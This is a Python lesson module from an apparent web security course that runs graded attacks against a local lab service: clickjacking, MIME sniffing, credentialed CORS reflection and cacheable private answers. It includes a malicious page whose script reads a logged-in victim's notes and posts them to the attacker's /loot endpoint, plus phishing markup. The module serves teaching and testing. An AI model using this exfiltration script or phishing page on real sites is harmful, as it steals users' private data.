"""Lesson 09: attacks that work through the victim's browser, because of what the service's
answers do not tell it.

In process (the scene's client on ``https://testserver``), each a real request whose answer
is judged by what a browser would do with it:

- **clickjacking**: may another site's page show ``/docs`` in a frame? Only
  ``frame-ancestors`` in the CSP (or the older ``X-Frame-Options``) says no (ASVS 5.0 3.4.6);
- **MIME sniffing**: a route that answers a stored comment as a file, without a type (as a
  teammate might add one); with no ``X-Content-Type-Options: nosniff`` a browser guesses the
  type from the bytes, finds HTML, and shows mallory's markup as a page of the service's own
  origin (3.4.4);
- **CORS with every origin reflected**: the service behind Starlette's ``CORSMiddleware``
  configured to allow every origin with credentials. It answers mallory's origin, and ``null``,
  with permission to read alice's notes (3.4.2);
- **cached private answers**: a note list and a token answered without
  ``Cache-Control: no-store`` (14.3.2; RFC 6749 5.1).

In real headless Chromium (``lessons.chromium``; skipped where it is not installed): mallory's
page, on another port of the same host, frames ``/docs``, and reads alice's notes with her
session cookie through the reflecting CORS policy.
"""

from __future__ import annotations

import html
import json
from dataclasses import dataclass, field
from typing import Any

import httpx2
from fastapi import FastAPI
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from lessons import chromium, cors, grader
from lessons.attacks import (
    ATTACKER,
    VICTIM,
    Attack,
    AttackResult,
    Scene,
    SceneError,
    Variant,
    bearer,
    reference,
)
from lessons.attacks.lesson06 import login as session_login
from lessons.attacks.lesson06 import request as cookie_request
from lessons.tls import certificates as tls

MALLORY_SITE = "https://mallory.example"
# The service after lesson 08 behind the CORS set-up of countless answers to "CORS errors?":
# every origin, with credentials (lessons.cors.reflect_every_origin).
REFLECTING = Variant(8, options={"cors": "reflect every origin"},
                     label="lesson 08 with CORSMiddleware(allow_origins=['*'], "
                           "allow_credentials=True)")
# A comment that lesson 07's sanitizer lets through untouched: a paragraph and a link.
SPOOF = ('<p><b>Your session has expired.</b> <a href="https://mallory.example/login">'
         "Log in again</a> to keep your notes.</p>")


def prepare(scene: Scene) -> Scene:
    """Set the scene of a variant's ``options``: the reflecting CORS middleware, if asked for
    (before the app handles its first request)."""
    if scene.options.get("cors"):
        cors.reflect_every_origin(scene.app)
    return scene


# -- clickjacking --------------------------------------------------------------------------------


def frame_blockers(headers: httpx2.Headers) -> list[str]:
    """What in an answer's headers stops other sites from framing it: ``frame-ancestors`` in
    an enforced CSP that names no wildcard, or ``X-Frame-Options`` DENY or SAMEORIGIN."""
    found = []
    try:
        policy = grader.combined_policy(headers.get_list("content-security-policy"))
    except grader.PolicyError:
        policy = {}
    ancestors = policy.get("frame-ancestors")
    if ancestors is not None and not ancestors & grader.BROAD:
        found.append(f"Content-Security-Policy: frame-ancestors {' '.join(sorted(ancestors))}")
    option = (headers.get("x-frame-options") or "").strip().lower()
    if option in ("deny", "sameorigin"):
        found.append(f"X-Frame-Options: {option.upper()}")
    return found


def clickjacking(scene: Scene, path: str = "/docs") -> AttackResult:
    """May a page on another site show ``path`` in a frame, under a decoy of its own?"""
    answer = scene.client.get(path)
    blockers = frame_blockers(answer.headers)
    kind = answer.headers.get("content-type", "").split(";")[0]
    evidence = f"GET {path}: HTTP {answer.status_code} ({kind}), " + (
        "; ".join(blockers) + ": browsers refuse to show it in another site's frame"
        if blockers else "neither frame-ancestors nor X-Frame-Options: any site may frame it")
    return AttackResult(f"mallory's page shows {path} in a frame under her own decoy",
                        succeeded=answer.status_code == 200 and not blockers, evidence=evidence)


# -- MIME sniffing -------------------------------------------------------------------------------

FILE_ROUTE = "/comments/{comment_id}/file"
# Media types a browser treats as "unknown", and so sniffs (WHATWG MIME Sniffing 7.1).
UNKNOWN_TYPES = ("", "unknown/unknown", "application/unknown", "*/*")


def add_comment_file_route(app: FastAPI) -> None:
    """A route a teammate adds later, "so that feed readers can fetch one comment": the
    stored body answered as it is. ``Response(body)`` sends no ``Content-Type`` at all."""
    store = app.state.service.store

    async def comment_file(request: Request) -> Response:
        wanted = int(request.path_params["comment_id"])
        found = next((c for c in store.list_comments() if c.id == wanted), None)
        if found is None:
            return Response(status_code=404)
        return Response(found.body)

    app.router.routes.insert(0, Route(FILE_ROUTE, comment_file, methods=["GET"]))


def mime_sniffing(scene: Scene) -> AttackResult:
    """mallory posts a comment of harmless markup, then sends alice the link to it "as a file".
    Does the answer tell the browser not to guess its type?"""
    add_comment_file_route(scene.app)
    token = scene.token(ATTACKER, ["notes:write"])
    posted = scene.client.post("/comments", json={"body": SPOOF}, headers=bearer(token))
    if posted.status_code != 201:
        raise SceneError(f"mallory could not post a comment: HTTP {posted.status_code}")
    path = FILE_ROUTE.format(comment_id=posted.json()["id"])
    answer = scene.client.get(path)
    kind = answer.headers.get("content-type", "").split(";")[0].strip().lower()
    nosniff = answer.headers.get("x-content-type-options", "").strip().lower() == "nosniff"
    sniffed = answer.status_code == 200 and kind in UNKNOWN_TYPES and not nosniff
    said = (f"Content-Type: {kind}" if kind else "no Content-Type") + (
        ", X-Content-Type-Options: nosniff" if nosniff else ", no X-Content-Type-Options")
    outcome = (f"a browser finds {answer.text[:18]!r}... and shows mallory's markup as a page "
               "of the service" if sniffed else "a browser shows the bytes as they are typed, "
               "never as a page")
    return AttackResult("a comment answered as a typeless file is sniffed into a page",
                        succeeded=sniffed,
                        evidence=f"GET {path}: HTTP {answer.status_code}, {said}: {outcome}")


# -- CORS ----------------------------------------------------------------------------------------


def read_across_origins(scene: Scene, origin: str, path: str = "/notes") -> AttackResult:
    """alice's browser, logged in with the session cookie, is asked by a page of ``origin`` to
    fetch ``path`` with her credentials. Does the answer let that page's script read it?"""
    prepare(scene)
    cookie, _ = session_login(scene, VICTIM)
    answer = cookie_request(scene, "GET", path, cookie=cookie, headers={"Origin": origin})
    allowed = answer.headers.get("access-control-allow-origin")
    credentials = answer.headers.get("access-control-allow-credentials")
    readable = answer.status_code == 200 and allowed == origin and credentials == "true"
    said = (f"Access-Control-Allow-Origin: {allowed or '(none)'}, "
            f"Access-Control-Allow-Credentials: {credentials or '(none)'}")
    if readable:
        titles = [note["title"] for note in answer.json()]
        outcome = f"the browser hands the page's script alice's notes {titles}"
    else:
        outcome = "the browser keeps the answer from the page's script"
    return AttackResult(f"a page of {origin} reads alice's notes with her cookie",
                        succeeded=readable,
                        evidence=f"GET {path} with alice's cookie, Origin: {origin}: HTTP "
                                 f"{answer.status_code}, {said}: {outcome}")


def evil_origin(scene: Scene) -> AttackResult:
    return read_across_origins(scene, MALLORY_SITE)


def null_origin(scene: Scene) -> AttackResult:
    """``Origin: null`` is what a sandboxed frame, a ``data:`` page or a local file sends: any
    page can put its script in one."""
    return read_across_origins(scene, "null")


# -- caches --------------------------------------------------------------------------------------


def cacheable_private_answers(scene: Scene) -> AttackResult:
    """Which answers meant for alice alone may a cache keep (the browser's, or a shared proxy's
    in front of the service) and show again, after she logged out or to someone else?"""
    issued = scene.token_response(VICTIM, ["notes:read"])
    if issued.status_code != 200:
        raise SceneError(f"alice could not log in: HTTP {issued.status_code}")
    token = issued.json()["access_token"]
    answers = {"POST /auth/token": issued,
               "GET /notes": scene.client.get("/notes", headers=bearer(token)),
               "GET /users/me": scene.client.get("/users/me", headers=bearer(token))}
    kept = [name for name, answer in answers.items()
            if "no-store" not in answer.headers.get("cache-control", "").lower()]
    evidence = (f"no Cache-Control: no-store on {', '.join(kept)}: a cache may keep alice's "
                "token and notes" if kept else
                f"Cache-Control: no-store on all {len(answers)}: no cache keeps them")
    return AttackResult("a cache keeps alice's token and notes", succeeded=bool(kept),
                        evidence=evidence)


# -- in a real browser ---------------------------------------------------------------------------


@dataclass
class EvilSite:
    """mallory's pages, on another port of the service's host: another origin, but the same
    site, so alice's SameSite=Lax cookie goes along with the requests they make."""

    target: str
    loot: list[str] = field(default_factory=list)

    def app(self) -> Starlette:
        async def frame(request: Request) -> Response:
            # A real clickjacking page makes the frame transparent and puts a decoy button
            # under the service's own; whether the frame is shown at all is what matters.
            return HTMLResponse(
                "<!doctype html><title>Win a prize</title><h1>Click to win!</h1>"
                f'<iframe id="target" src="{html.escape(self.target)}/docs" width="900" '
                'height="600"></iframe>')

        async def steal(request: Request) -> Response:
            # Everything the page's script manages to read, it sends home.
            target = json.dumps(f"{self.target}/notes")
            return HTMLResponse(
                "<!doctype html><title>Cute cats</title><pre id=\"loot\">waiting</pre><script>"
                f"fetch({target}, {{credentials: 'include'}})"
                ".then(r => r.text()).then(t => 'READ ' + t, e => 'BLOCKED ' + e)"
                ".then(found => { document.getElementById('loot').textContent = found;"
                " return fetch('/loot', {method: 'POST', body: found}); });</script>")

        async def loot(request: Request) -> Response:
            self.loot.append((await request.body()).decode("utf-8", "replace"))
            return Response(status_code=204)

        return Starlette(routes=[Route("/frame", frame), Route("/steal", steal),
                                 Route("/loot", loot, methods=["POST"])])


@dataclass
class Network:
    service_url: str
    evil_url: str
    evil: EvilSite


def network(scene: Scene) -> Network:
    """The scene's service and mallory's site over HTTPS, on two free ports of 127.0.0.1, with
    the lesson's local CA in the scene's folder. Both stop when the scene closes."""
    prepare(scene)
    files = tls.ensure_certificates(scene.folder)
    options = {"certfile": files.certfile, "keyfile": files.keyfile}
    service = scene.serve(**options)
    evil = EvilSite(target=service.url)
    site = scene.serve(evil.app(), **options)
    return Network(service.url, site.url, evil)


def framed_in_chromium(scene: Scene) -> AttackResult:
    """mallory's page frames ``/docs``; does Chromium show it?"""
    net = network(scene)

    def look(context: Any) -> tuple[str, bool]:
        page = context.new_page()
        page.goto(f"{net.evil_url}/frame", wait_until="load")
        frame = page.frame_locator("#target")
        shown = frame.locator("#swagger-ui").count() > 0
        inner = next((f.url for f in page.frames if f is not page.main_frame), "")
        return inner, shown

    inner, shown = chromium.run(look)
    where = "the service's page" if inner.startswith(net.service_url) else "an error page"
    return AttackResult(
        "in Chromium, mallory's page shows /docs in a frame", succeeded=shown,
        evidence=(f"the frame holds {where}" + (", Swagger UI and all: alice would click "
                                                "whatever the decoy puts under her mouse"
                                                if shown else ": the browser refused to frame it")))


def read_in_chromium(scene: Scene) -> AttackResult:
    """alice logs in to the service in Chromium, then visits mallory's page, whose script
    fetches ``/notes`` with her credentials and sends home whatever it can read."""
    net = network(scene)
    account = scene.accounts[VICTIM]

    def visit(context: Any) -> int:
        page = context.new_page()
        # The docs page: its policy lets it call the API (connect-src 'self'), as the
        # service's own front end would.
        page.goto(f"{net.service_url}/docs")
        status = page.evaluate(
            "async ([u, p]) => (await fetch('/session/login', {method: 'POST', body: "
            "new URLSearchParams({username: u, password: p})})).status",
            [account.username, account.password])
        if status == 204:
            page.goto(f"{net.evil_url}/steal")
            page.wait_for_function(
                "document.getElementById('loot').textContent !== 'waiting'")
            page.wait_for_timeout(200)  # the page's last fetch, home to mallory
        return int(status)

    status = chromium.run(visit)
    if status != 204:
        raise SceneError(f"alice could not log in in Chromium: HTTP {status}")
    found = net.evil.loot[-1] if net.evil.loot else "BLOCKED (nothing arrived)"
    read = found.startswith("READ ")
    if read:
        titles = [note["title"] for note in json.loads(found[len("READ "):])]
        outcome = f"her script read alice's notes {titles} and sent them home"
    else:
        outcome = f"her script got {found[len('BLOCKED '):]!r}, and nothing to send home"
    return AttackResult("in Chromium, mallory's page reads alice's notes with her cookie",
                        succeeded=read, evidence=f"alice logged in, then opened mallory's page "
                                                 f"(same site, another port): {outcome}")


ATTACKS: tuple[Attack, ...] = (
    Attack("clickjacking", "another site's page shows /docs in a frame", clickjacking,
           reference(8), fixed_in=9),
    Attack("mime_sniffing", "a comment answered as a typeless file is sniffed into a page",
           mime_sniffing, reference(8), fixed_in=9),
    Attack("cors_evil_origin", "mallory's origin reads alice's notes through a reflecting "
           "CORS policy", evil_origin, REFLECTING, fixed_in=9),
    Attack("cors_null_origin", "a sandboxed page (Origin: null) reads alice's notes",
           null_origin, REFLECTING, fixed_in=9),
    Attack("cached_private_answers", "a cache keeps alice's token and notes",
           cacheable_private_answers, reference(8), fixed_in=9),
    Attack("framed_in_chromium", "in Chromium, another site's page frames /docs",
           framed_in_chromium, reference(8), fixed_in=9, network=True),
    Attack("cors_read_in_chromium", "in Chromium, mallory's page reads alice's notes",
           read_in_chromium, REFLECTING, fixed_in=9, network=True),
)
IN_PROCESS = tuple(attack for attack in ATTACKS if not attack.network)
BY_ID = {attack.id: attack for attack in ATTACKS}
